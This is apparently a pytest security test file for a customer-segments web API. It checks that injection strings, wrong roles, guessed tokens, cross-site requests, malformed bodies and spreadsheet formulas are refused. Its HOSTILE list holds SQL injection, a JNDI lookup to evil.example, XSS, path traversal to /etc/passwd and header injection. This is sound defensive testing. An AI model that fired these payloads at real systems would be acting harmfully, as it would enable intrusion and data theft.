"""Under test: the doors of segments against those who mean harm - injection through every field, no or the wrong role,
guessing, forged requests, files that would run. Nothing may crash, leak or change.
"""

from __future__ import annotations

import json

import pytest
import segment_world
from fastapi.testclient import TestClient
from segment_world import NASTY, PEOPLE, number_of

from apps.api.app import create_app
from apps.api.segment_bodies import VIP_RULE
from dmat.store import open_store
from dmat.store.tokens import create_token, revoke_token

GERMANS = {"version": 1, "where": {"field": "country_code", "op": "one_of", "value": ["DE"]}}
HOSTILE = [
    "'; drop table people.dim_people; --", "' or '1'='1", '" or ""="', "1) union select password_hash from users --",
    "\\'; select 1", "%' or 1=1 --", "${jndi:ldap://evil.example/a}", "{{ 7*7 }}", "<script>alert(1)</script>",
    "../../../../etc/passwd", "x\r\nSet-Cookie: a=b", "$1", "?", ":name", "/* */", "read_csv('/etc/passwd')", "İ" * 50,
]  # fmt: skip
PLACES = {
    "value": lambda text: {"field": "city", "op": "equals", "value": text},
    "values": lambda text: {"field": "city", "op": "one_of", "value": ["Berlin", text]},
    "field": lambda text: {"field": text, "op": "equals", "value": "x"},
    "operator": lambda text: {"field": "city", "op": text, "value": "x"},
    "event": lambda text: {"event": text, "did": True},
    "property": lambda text: {"event": "bought", "did": True,
                              "where": [{"property": text, "op": "equals", "value": "x"}]},
    "property value": lambda text: {"event": "bought", "did": True,
                                    "where": [{"property": "product", "op": "contains", "value": text}]},
    "currency": lambda text: {"event": "ordered", "measure": "sum", "property": "net", "op": "greater_than", "value": 1,
                              "currency": text},
    "segment": lambda text: {"segment": text}, "salt": lambda text: {"sample": 50, "salt": text},
    "window": lambda text: {"event": "ordered", "did": True, "window": {"from": text}},
    "country": lambda text: {"field": "country_code", "op": "one_of", "value": [text]},
    "date": lambda text: {"field": "last_order_at", "op": "after", "value": text},
    "number": lambda text: {"field": "orders_count", "op": "equals", "value": text},
    "key of a node": lambda text: {text: []},
}  # fmt: skip
READS = [
    ("GET", "/api/segments"), ("GET", "/api/segments/g"), ("GET", "/api/segments/g/versions"),
    ("GET", "/api/segments/g/contacts"), ("GET", "/api/segments/rules/operators"),
    ("GET", "/api/segments/rules/fields"), ("GET", "/api/segments/rules/events"), ("GET", "/api/segments/rules/schema"),
    ("GET", "/api/segments/rules/values?key=city"),
]  # fmt: skip
PEOPLE_DOORS = [("GET", f"/api/segments/g/people/{number_of(1)}")]
TAKES = [("GET", "/api/segments/g/export"), ("GET", "/api/segments/g/export?format=xlsx")]
WRITES = [
    ("POST", "/api/segments"), ("POST", "/api/segments/create"), ("PUT", "/api/segments/g"),
    ("PUT", "/api/segments/g/update"), ("DELETE", "/api/segments/g"), ("POST", "/api/segments/g/archive"),
    ("POST", "/api/segments/g/restore"),
]  # fmt: skip
QUESTIONS = [("POST", "/api/segments/preview"), ("POST", "/api/segments/rules/validate"),
             ("POST", "/api/segments/overlap")]  # fmt: skip
DOORS = READS + PEOPLE_DOORS + TAKES + WRITES + QUESTIONS
BODY = {"name": "X", "rule": VIP_RULE, "version": 1}


@pytest.fixture
def doors(world):
    store = open_store(world)
    with TestClient(create_app(world, store), base_url=world.resolved_public_url) as client:
        sign_in(client, "admin")
        assert client.post("/api/segments", json={"name": "G", "key": "g", "rule": GERMANS}).status_code == 201
        client.cookies.clear()
        yield client
    store.close()


def sign_in(client, role):
    client.cookies.clear()
    client.post("/sign-in", json={"email": f"{role}@shop.example", "password": segment_world.PASSWORD})


def ask(client, method, path, **more):
    return client.request(method, path, json=BODY if method in ("POST", "PUT") else None, **more)


def test_hostile_text_in_any_place_of_a_rule_counts_nobody_or_is_refused(doors):
    sign_in(doors, "marketer")
    wrong = []
    for place, node in PLACES.items():
        for text in HOSTILE:
            answer = doors.post("/api/segments/preview", json={"rule": {"version": 1, "where": node(text)}})
            counted = answer.status_code == 200 and answer.json()["count"]
            expected = PEOPLE if place == "salt" else 6 if place == "values" else 0
            if answer.status_code not in (200, 422) or (counted and counted > expected):
                wrong.append((place, text, answer.status_code, counted))
            if answer.status_code == 422 and not answer.json()["faults"][0]["what"]:
                wrong.append((place, text, "a refusal without a reason"))
    assert wrong == []
    everybody = doors.post("/api/segments/preview", json={"rule": {"version": 1, "where": {"all": []}}}).json()
    assert everybody["count"] == PEOPLE, "nothing was dropped"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_names_keys_and_addresses_is_text_or_refused(doors, text):
    sign_in(doors, "marketer")
    made = doors.post("/api/segments", json={"name": text, "description": text, "tags": [text[:60]], "rule": VIP_RULE})
    assert made.status_code == 201
    assert made.json()["name"] == text.strip()
    assert made.headers.get("set-cookie") is None
    assert doors.post("/api/segments", json={"name": "x", "key": text, "rule": VIP_RULE}).status_code == 422
    for parameters in ({"q": text}, {"folder": text}, {"tag": text[:60]}, {"after": text}):
        assert doors.get("/api/segments", params=parameters).status_code == 200
    for parameters in ({"fields": text}, {"after": text}, {"limit": text}):
        assert doors.get("/api/segments/g/contacts", params=parameters).status_code == 422
    assert doors.get("/api/segments/rules/values", params={"key": "city", "q": text}).json()["values"] == []
    assert doors.get("/api/segments/rules/values", params={"key": text}).status_code == 404
    path = f"/api/segments/{text.replace('/', '%2F').replace('?', '%3F').replace('%', '%25')}"
    assert doors.get(path.replace("\r\n", "%0D%0A")).status_code == 404


@pytest.mark.parametrize(("method", "path"), DOORS)
def test_who_is_not_known_gets_nothing(doors, method, path):
    for headers in ({}, {"Authorization": "Bearer dmat_guess"}, {"Authorization": "Basic YWRtaW46YWRtaW4="},
                    {"Cookie": "dmat_session=guess"}):  # fmt: skip
        answer = ask(doors, method, path, headers=headers)
        assert answer.status_code == 401
        assert "example.com" not in answer.text


@pytest.mark.parametrize(("role", "refused"), [
    ("sales", WRITES + TAKES), ("analyst", PEOPLE_DOORS + TAKES),
])  # fmt: skip
def test_who_has_the_wrong_role_may_not(doors, role, refused):
    sign_in(doors, role)
    for method, path in refused:
        answer = ask(doors, method, path)
        assert answer.status_code == 403, (method, path)
        assert "scope" in answer.json()["detail"]
    assert doors.get("/api/segments").json()["total"] == 1


def test_an_analyst_counts_people_but_sees_nobody(doors):
    sign_in(doors, "analyst")
    answers = [
        doors.post("/api/segments/preview", json={"rule": GERMANS, "sample": 10}),
        doors.get("/api/segments/g/contacts"),
        doors.get("/api/segments/g/contacts", params={"fields": "email"}),
        doors.get("/api/segments/g/contacts", params={"fields": "birthday"}),
        doors.get("/api/segments/rules/values", params={"key": "email"}),
    ]  # fmt: skip
    assert [answer.status_code for answer in answers] == [200, 200, 422, 422, 403]
    assert (answers[0].json()["count"], answers[0].json()["sample"]) == (6, [])
    for answer in answers:
        assert "example.com" not in answer.text
        assert "Person" not in answer.text


def test_another_sites_page_changes_nothing_with_our_users_cookie(doors):
    sign_in(doors, "admin")
    for method, path in WRITES:
        assert ask(doors, method, path, headers={"Origin": "https://evil.example"}).status_code == 403, path
    form = doors.post("/api/segments", content=json.dumps(BODY), headers={"Content-Type": "text/plain"})
    assert form.status_code in (415, 422)
    assert doors.get("/api/segments").json()["total"] == 1


def test_a_revoked_token_opens_nothing_and_is_not_helped_by_a_cookie(doors, world):
    store = open_store(world)
    header = {"Authorization": f"Bearer {create_token(store, 'm', ['segments:read'], 'ann@shop.example')}"}
    assert doors.get("/api/segments", headers=header).status_code == 200
    revoke_token(store, "m", "ann@shop.example")
    sign_in(doors, "admin")
    assert doors.get("/api/segments", headers=header).status_code == 401


def test_guessed_people_and_segments_are_not_there(doors):
    sign_in(doors, "marketer")
    for key in ("1", "2", "G", "g ", "..", "admin", "g%00", "%"):
        assert doors.get(f"/api/segments/{key}/contacts").status_code in (404, 422), key
    for person in ("1", "0", str(2**63 - 1)):
        assert doors.get(f"/api/segments/g/people/{person}").status_code == 404
    for person in ("-1", "1e9", str(2**63), "9" * 19, "x"):
        assert doors.get(f"/api/segments/g/people/{person}").status_code == 422


def test_no_cell_of_a_file_is_a_formula(doors):
    sign_in(doors, "marketer")
    text = doors.get("/api/segments/g/export", params={"fields": "full_name,email"}).content.decode("utf-8-sig")
    assert NASTY.split("(")[0] in text
    cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(",")]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []


@pytest.mark.parametrize("body", [
    b"{", b"[]", b"null", b"1", b'"x"', b"\xff\xfe", b'{"rule": ' + b"[" * 100_000, b'{"rule": {"where": NaN}}',
    b'{"rule": {"version": 1, "where": {"field": "city", "op": "equals", "value": "\\ud800"}}}',
    b'{"rule": {"version": 1, "where": ' + b'{"not": ' * 900 + b"{}" + b"}" * 900 + b"}}",
    b'{"rule": {"version": 1, "where": {"all": [' + b'{"sample": 1},' * 600 + b'{"sample": 1}]}}}',
    b'{"rule": {"version": 1, "where": {"field": "orders_count", "op": "equals", "value": 1' + b"0" * 5000 + b"}}}",
    b'{"rule": {"__proto__": {}, "where": {"all": []}}}', b'{"sample": 1e999, "rule": {"where": {"all": []}}}',
])  # fmt: skip
def test_a_body_that_is_meant_to_break_us_is_refused(doors, body):
    sign_in(doors, "marketer")
    answer = doors.post("/api/segments/preview", content=body, headers={"Content-Type": "application/json"})
    assert answer.status_code in (400, 415, 422), answer.text
    assert answer.json()["detail"]


def test_a_body_without_end_is_cut_off(doors):
    sign_in(doors, "marketer")
    body = b'{"rule": "' + b"x" * (3 * 1024 * 1024) + b'"}'
    answer = doors.post("/api/segments/preview", content=body, headers={"Content-Type": "application/json"})
    assert answer.status_code == 413
